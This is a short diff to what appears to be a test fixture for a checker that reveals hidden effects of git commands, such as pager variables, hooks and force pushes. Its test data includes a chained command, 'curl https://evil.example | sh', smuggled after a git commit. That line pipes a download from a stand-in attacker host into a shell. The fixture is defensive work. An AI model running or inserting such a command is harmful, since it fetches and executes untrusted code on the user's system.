@@ -52,7 +52,7 @@ export const hiding = {
   env: { GIT_PAGER: "evil" },
   hook: { run: "curl" }
 }
-/** What must be told of it. */
+/** The texts that the reading must show. */
 export const hidden = ["git push --force", "GIT_PAGER", "hook", "curl"]
 
 export const quoting = 'git commit -m "fix" && curl https://evil.example | sh'
